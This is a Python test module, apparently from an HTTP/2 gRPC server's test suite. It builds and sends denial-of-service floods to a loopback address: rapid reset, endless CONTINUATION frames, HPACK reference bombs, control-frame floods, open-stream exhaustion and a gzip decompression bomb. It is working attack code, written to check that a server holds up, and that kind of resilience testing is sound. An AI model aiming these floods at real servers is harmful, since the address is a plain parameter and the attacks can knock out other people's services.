"""Floods of frames that no client of ours sends: what a caller who means harm writes into HTTP/2 connections.

Each is bounded by its number of connections and by the block of time that it runs in, and goes to loopback.
"""

from __future__ import annotations

import gzip
import itertools
import select
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from functools import cache

from tests.http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    call_headers,
    frame,
    header_block,
    literal,
    message,
)

PATH = b"/npugrad.v1.BackwardService/GroupNormBackward"
_BURST = 200
"""Frames of a block, which is sent at once."""
_CANCEL = (8).to_bytes(4, "big")
_SOCKET_TIMEOUT_S, _PAUSE_S = 20.0, 0.01
_FRAME_BYTES = 16384
"""The longest frame that everybody takes."""


@dataclass(frozen=True)
class Attack:
    """What an attacker sends over each connection after its preface, until it is closed.

    A connection stays for `hold_s` when its blocks are sent; None is for as long as it may.
    """

    name: str
    blocks: Callable[[], Iterator[bytes]]
    reads: bool = True
    connections: int = 4
    hold_s: float | None = None


# --------------------------------------------------------------------------------------------- what is sent


def _remembered() -> tuple[bytes, bytes]:
    """The header block of a call that has HPACK's table keep its fields, and one of six references."""
    path = b"\x44" + bytes([len(PATH)]) + PATH
    first = b"\x83\x86" + path + b"\x41\x04test" + b"\x5f\x10application/grpc" + b"\x40\x02te\x08trailers"
    return first, bytes([0x83, 0x86, 0x80 | 65, 0x80 | 64, 0x80 | 63, 0x80 | 62])


def _calls(streams: Iterator[int], after: Callable[[int], bytes]) -> Iterator[bytes]:
    """Blocks of calls, each followed by something."""
    header, again = _remembered()
    while burst := list(itertools.islice(streams, _BURST)):
        block = b""
        for stream in burst:
            block += frame(HEADERS, END_HEADERS, stream, header) + after(stream)
            header = again
        yield block


def rapid_reset() -> Iterator[bytes]:
    """Calls that are cancelled in the same breath: none counts as open, all make work."""
    return _calls(iter(range(1, 2**31, 2)), lambda stream: frame(RST_STREAM, 0, stream, _CANCEL))


def open_streams() -> Iterator[bytes]:
    return _calls(iter(range(1, 4000, 2)), lambda stream: b"")


def continuation() -> Iterator[bytes]:
    """One block of headers that never ends."""
    field = literal(b"x-a", b"v" * 120)
    yield frame(HEADERS, 0, 1, b"\x83\x86" + literal(b":path", PATH))
    while True:
        yield frame(CONTINUATION, 0, 1, field * (_FRAME_BYTES // len(field))) * 8


def hpack_bomb() -> Iterator[bytes]:
    """A field of 3,900 bytes, and then blocks of 16,000 references to it: 60 MiB of headers each."""
    big = b"\x40\x03x-b\x7f" + _integer(3900 - 127) + b"v" * 3900
    for stream in range(1, 2**31, 2):
        fields = big if stream == 1 else b""
        yield frame(HEADERS, END_HEADERS, stream, fields + b"\xbe" * 12000)


def hpack_calls() -> Iterator[bytes]:
    """Whole calls with 450 references to an empty field: nearly as much metadata as a call may have."""
    for stream in range(1, 2**31, 2):
        field = b"\x40\x03x-b\0" if stream == 1 else b""
        block = header_block(PATH) + field + b"\xbe" * 450
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block)


def _integer(rest: int) -> bytes:
    """What follows the prefix of an integer in HPACK."""
    return bytes([rest % 128 | 128]) + _integer(rest // 128) if rest > 127 else bytes([rest])


def _forever(block: bytes) -> Callable[[], Iterator[bytes]]:
    return lambda: itertools.repeat(block)


def empty_data() -> Iterator[bytes]:
    yield call_headers(PATH, 1)
    yield from itertools.repeat(frame(DATA, 0, 1) * _BURST)


def gzip_bomb() -> Iterator[bytes]:
    """A call whose message of 45 KiB is 45 MiB when it is unpacked."""
    yield call_headers(PATH, 1, (b"grpc-encoding", b"gzip"))
    packed = message(len(_packed()), _packed(), compressed=1)
    pieces = [packed[at : at + _FRAME_BYTES] for at in range(0, len(packed), _FRAME_BYTES)]
    yield b"".join(frame(DATA, END_STREAM if p is pieces[-1] else 0, 1, p) for p in pieces)


@cache
def _packed() -> bytes:
    return gzip.compress(bytes(45 * 2**20), 9)


_SETTING = b"\0\3\0\0\0\x64"
ATTACKS = (
    Attack("rapid reset", rapid_reset),
    Attack("rapid reset, unread", rapid_reset, reads=False),
    Attack("CONTINUATION", continuation),
    Attack("HPACK bombs", hpack_bomb),
    Attack("HPACK, whole calls", hpack_calls),
    Attack("PING, unread", _forever(frame(PING, 0, 0, bytes(8)) * _BURST), reads=False),
    Attack("SETTINGS, unread", _forever(frame(SETTINGS, 0, 0, _SETTING) * _BURST), reads=False),
    Attack("PRIORITY", _forever(frame(PRIORITY, 0, 1, bytes(5)) * _BURST)),
    Attack("WINDOW_UPDATE", _forever(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * _BURST)),
    Attack("empty DATA", empty_data),
    Attack("2,000 streams", open_streams),
    Attack("gzip 1,000:1", gzip_bomb, hold_s=0.2),
)


# --------------------------------------------------------------------------------------------- who sends it


class Flood:
    """Attackers in threads, for a block; a connection that is closed is opened again."""

    def __init__(self, attack: Attack, address: str) -> None:
        host, _, port = address.rpartition(":")
        self._attack, self._target = attack, (host, int(port))
        self.connections = self.sent_bytes = 0
        self._lock, self._over = threading.Lock(), threading.Event()
        self._open: set[socket.socket] = set()
        self._threads = [threading.Thread(target=self._work, daemon=True) for _ in range(attack.connections)]

    def __enter__(self) -> Flood:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._over.set()
        with self._lock:
            for connection in self._open:  # wakes those that wait in send
                with suppress(OSError):
                    connection.shutdown(socket.SHUT_RDWR)
        for thread in self._threads:
            thread.join(_SOCKET_TIMEOUT_S)

    def _work(self) -> None:
        while not self._over.is_set():
            with suppress(OSError), socket.create_connection(self._target, _SOCKET_TIMEOUT_S) as connection:
                with self._lock:
                    self._open.add(connection)
                    self.connections += 1
                try:
                    self._use(connection)
                finally:
                    with self._lock:
                        self._open.discard(connection)
            self._over.wait(_PAUSE_S)

    def _use(self, connection: socket.socket) -> None:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
        for block in self._attack.blocks():
            if self._over.is_set() or (self._attack.reads and self._is_closed(connection)):
                return
            connection.sendall(block)
            with self._lock:
                self.sent_bytes += len(block)
        end_s = time.monotonic() + (self._attack.hold_s or float("inf"))
        while time.monotonic() < end_s and not self._is_closed(connection):
            if self._over.wait(_PAUSE_S):
                return

    @staticmethod
    def _is_closed(connection: socket.socket) -> bool:
        """Throws away what has come; True when that was the end."""
        while select.select([connection], [], [], 0)[0]:
            if not connection.recv(2**16):
                return True
        return False
